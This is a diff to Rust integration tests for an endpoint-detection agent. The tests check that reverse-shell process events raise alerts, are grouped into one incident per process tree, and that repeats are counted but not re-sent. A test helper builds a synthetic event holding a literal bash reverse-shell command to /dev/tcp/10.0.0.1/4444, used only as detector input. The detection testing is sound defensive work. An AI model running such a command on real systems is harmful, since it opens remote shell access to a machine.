@@ -133,7 +133,9 @@ fn events_in_alert_recorded_status_counts_reload_and_shutdown() {
     let report = h.reload().unwrap();
     assert_eq!(report.applied, vec!["output".to_string()], "{report:?}");
     assert_eq!(report.restart_needed, vec!["runtime".to_string()], "{report:?}");
-    agent.send(event(REVSHELL));
+    // Another process: the same one again would be a repeat in its incident
+    // (recorded, not re-sent to the outputs).
+    agent.send(event(&REVSHELL.replace("4242", "4243")));
     wait_for("the alert in the new alerts file", || {
         std::fs::read_to_string(dir.path().join("data/alerts-2.jsonl")).is_ok_and(|t| t.contains("edr.revshell.dev-tcp"))
     });
@@ -215,4 +217,54 @@ fn a_second_agent_on_the_same_data_dir_is_refused() {
     let err = second.run(Shutdown::new()).unwrap_err().to_string();
     assert!(err.contains("another agent is already running"), "{err}");
     first.stop();
+}
+
+/// A reverse shell as ECS: `pid`/`entity` under `ppid`/`parent`.
+fn revshell(pid: u32, entity: &str, ppid: u32, parent: &str, parent_exe: &str) -> Event {
+    event(
+        &serde_json::json!({
+            "event": {"category": ["process"], "type": ["start"]},
+            "process": {"pid": pid, "entity_id": entity, "executable": "/usr/bin/bash",
+                        "args": ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
+                        "parent": {"pid": ppid, "entity_id": parent, "executable": parent_exe}},
+        })
+        .to_string(),
+    )
+}
+
+#[test]
+fn one_process_tree_is_one_incident_and_a_repeat_is_counted_not_resent() {
+    let dir = tempfile::tempdir().unwrap();
+    let config = write_config(dir.path(), "[output]\nstdout = false\n[runtime]\nbatch_timeout_ms = 5\n");
+    let agent = Running::start(&config, |b| b);
+    let h = agent.handle.clone();
+    // nginx -> bash (alert) -> bash (alert); the first bash's event again
+    // (the same rule on the same process: a repeat); another tree under sshd.
+    agent.send(revshell(4242, "0000000000004242", 4200, "0000000000004200", "/usr/sbin/nginx"));
+    agent.send(revshell(4243, "0000000000004243", 4242, "0000000000004242", "/usr/bin/bash"));
+    agent.send(revshell(4242, "0000000000004242", 4200, "0000000000004200", "/usr/sbin/nginx"));
+    agent.send(revshell(5000, "0000000000005000", 4900, "0000000000004900", "/usr/sbin/sshd"));
+    let alerts = || h.query("SELECT id, pid, incident_id FROM alert ORDER BY id").map(|r| r.rows).unwrap_or_default();
+    wait_for("four alerts in the record", || alerts().len() == 4);
+    let rows = alerts();
+    let incident = |i: usize| rows[i][2].as_u64().expect("every alert names its incident");
+    assert_eq!((incident(0), incident(1), incident(2)), (rows[0][0].as_u64().unwrap(), incident(0), incident(0)), "{rows:?}");
+    assert_ne!(incident(3), incident(0), "another tree, another incident");
+    let i = h.query(&format!("SELECT alert_count, suppressed, root_pid FROM incident WHERE id = {}", incident(0))).unwrap();
+    assert_eq!(i.rows[0], vec![serde_json::json!(3), serde_json::json!(1), serde_json::json!(4200)]);
+    let summary = agent.stop();
+    assert_eq!(summary.alerts, 4, "the record got every alert");
+    let sent: Vec<serde_json::Value> =
+        std::fs::read_to_string(dir.path().join("data/alerts.jsonl")).unwrap().lines().map(|l| serde_json::from_str(l).unwrap()).collect();
+    assert_eq!(sent.len(), 3, "the repeat was not re-sent: {sent:#?}");
+    let fields: Vec<(String, u64, u64)> = sent
+        .iter()
+        .map(|a| {
+            let i = &a["edr"]["incident"];
+            (i["id"].as_str().unwrap().to_string(), i["alert_count"].as_u64().unwrap(), i["suppressed"].as_u64().unwrap())
+        })
+        .collect();
+    let first = incident(0).to_string();
+    assert_eq!(fields[..2], [(first.clone(), 1, 0), (first, 2, 0)]);
+    assert_eq!(fields[2].1, 1);
 }
